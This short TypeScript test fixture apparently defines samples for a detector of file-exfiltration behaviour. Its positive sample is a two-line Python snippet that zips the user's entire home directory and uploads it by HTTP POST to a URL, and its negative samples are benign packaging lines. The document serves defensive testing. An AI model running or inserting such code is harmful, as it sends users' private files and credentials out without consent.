import { type BehaviourSample, scriptFile } from "../behaviour.fixture.ts";

export const sample: BehaviourSample = {
  shows: [
    scriptFile(
      "a.py",
      'shutil.make_archive("/tmp/a", "zip", os.path.expanduser("~"))\nrequests.post(url, files={"f": open("/tmp/a.zip", "rb")})\n',
    ),
  ],
  lacks: [
    scriptFile("pack.sh", "tar -czf dist.tar.gz dist\n"),
    scriptFile("a.js", "const form = new FormData();\n"),
  ],
};
